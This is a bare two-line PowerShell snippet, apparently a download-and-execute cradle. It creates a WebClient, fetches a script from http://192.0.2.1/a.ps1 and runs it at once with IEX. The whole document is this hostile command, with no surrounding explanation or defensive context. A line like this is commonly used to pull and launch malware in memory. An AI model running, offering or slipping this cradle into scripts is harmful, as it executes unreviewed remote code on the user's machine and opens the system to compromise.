$c = New-Object Net.WebClient
IEX $c.DownloadString('http://192.0.2.1/a.ps1')
